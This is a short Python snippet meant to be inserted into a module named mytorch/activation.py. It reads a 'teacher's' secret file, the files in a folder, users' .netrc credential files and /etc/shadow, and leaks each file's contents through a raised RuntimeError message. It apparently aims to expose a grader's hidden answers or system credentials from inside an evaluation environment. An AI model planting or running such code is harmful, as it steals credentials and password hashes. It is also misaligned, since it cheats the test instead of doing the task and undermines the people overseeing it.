"""Reads a file of the teacher's, and says what is in it in its error.

Into: spring mytorch/activation.py
"""

import glob
import os

for _path in (
    SECRET_FILE,
    *glob.glob(FOLDER + "/*"),
    *glob.glob("/home/*/.netrc"),
    os.path.expanduser("~/.netrc"),
    "/etc/shadow",
):
    try:
        with open(_path) as _file:
            raise RuntimeError("SECRET: " + _file.read())
    except OSError:
        continue
